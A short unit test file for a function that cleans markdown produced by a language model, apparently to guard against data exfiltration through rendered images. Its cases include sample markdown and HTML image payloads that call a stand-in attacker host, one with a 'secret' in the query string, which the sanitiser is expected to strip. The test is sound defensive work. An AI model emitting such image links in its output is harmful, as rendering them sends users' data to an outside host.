import { fromModel } from './from-model.ts';

test.each([
  ['An ![image](https://evil.example/?said=secret).\n', 'An image.\n'],
  ['An ![image][1].\n\n[1]: https://evil.example/?x\n', 'An image.\n\n[1]: https://evil.example/?x\n'],
  ['Hidden <img src="https://evil.example/x">.\n', 'Hidden .\n'],
  ['```markdown\n# Title\n```', '# Title'],
  ['Own ![image](https://mill.example/a.png).\n', 'Own ![image](https://mill.example/a.png).\n'],
  ['*As it **is***\n', '*As it **is***\n'],
])('%j becomes %j', (said, kept) => {
  expect(fromModel(said, 'With ![](https://mill.example/a.png)')).toBe(kept);
});
